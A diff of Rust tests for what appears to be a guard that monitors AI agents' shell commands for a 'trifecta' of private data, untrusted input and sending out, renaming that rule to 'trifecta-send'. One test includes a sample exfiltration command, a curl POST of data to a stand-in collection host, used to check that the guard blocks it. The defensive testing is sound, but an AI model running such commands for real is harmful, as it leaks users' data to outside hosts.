@@ -163,7 +163,7 @@ fn all_three_are_asked_about_in_strict() {
     world.meet_stranger("s");
     assert_eq!(world.send("s"), "ask");
     let last = world.journal().pop().unwrap();
-    assert_eq!(last["rule"], "trifecta");
+    assert_eq!(last["rule"], "trifecta-send");
     // It may happen, so it counts as sent.
     assert_eq!(last["marks"], json!(["sent"]));
     let marks: Vec<Value> = world.journal().iter().map(|line| line["marks"].clone()).collect();
@@ -188,13 +188,13 @@ fn guard_tells_what_it_would_have_done() {
     world.meet_stranger("s");
     assert_eq!(world.send("s"), "");
     let last = world.journal().pop().unwrap();
-    assert_eq!(last["rules"], json!(["trifecta ask (observed)"]));
+    assert_eq!(last["rules"], json!(["trifecta-send ask (observed)"]));
     let log = world.run(&["log"], "");
-    assert!(String::from_utf8_lossy(&log.stdout).contains("would ask [trifecta]"));
+    assert!(String::from_utf8_lossy(&log.stdout).contains("would ask [trifecta-send]"));
     // The journal holds what a judgement of today needs.
     let test = world.run(&["test", "--journal", "--profile", "strict", "--json"], "");
     let text = String::from_utf8_lossy(&test.stdout).into_owned();
-    assert!(text.contains("\"rule\":\"trifecta\""), "{text}");
+    assert!(text.contains("\"rule\":\"trifecta-send\""), "{text}");
 }
 
 #[test]
@@ -278,7 +278,11 @@ fn every_agents_events_mark() {
         hook("curl https://stranger.example.org/");
         let stopped = hook("curl -d a=1 https://collect.example.org/");
         let last = world.journal().pop().unwrap();
-        assert_eq!((&last["rule"], &last["agent"]), (&json!("trifecta"), &json!(agent)), "{last}");
+        assert_eq!(
+            (&last["rule"], &last["agent"]),
+            (&json!("trifecta-send"), &json!(agent)),
+            "{last}"
+        );
         assert_ne!((silent.stdout, silent.status), (stopped.stdout, stopped.status), "{agent}");
     }
     // What each of them did is its own.
@@ -297,12 +301,12 @@ fn explain_says_which_marks_it_assumes() {
         serde_json::from_slice::<Value>(&output.stdout).unwrap()
     };
     assert_eq!(explain(&[])["marks"], json!({ "standing": [], "set": ["untrusted", "sent"] }));
-    assert_eq!(explain(&["--session", "abc"])["rule"], "trifecta");
+    assert_eq!(explain(&["--session", "abc"])["rule"], "trifecta-send");
     assert_eq!(
         explain(&["--session", "abc"])["marks"]["standing"],
         json!(["private", "untrusted"])
     );
-    assert_eq!(explain(&["--marks", "private,untrusted"])["rule"], "trifecta");
+    assert_eq!(explain(&["--marks", "private,untrusted"])["rule"], "trifecta-send");
     let list = world.run(&["memory", "marks", "--session", "ab", "--json"], "");
     let list: Value = serde_json::from_slice(&list.stdout).unwrap();
     assert_eq!(list[0]["mark"], "private");
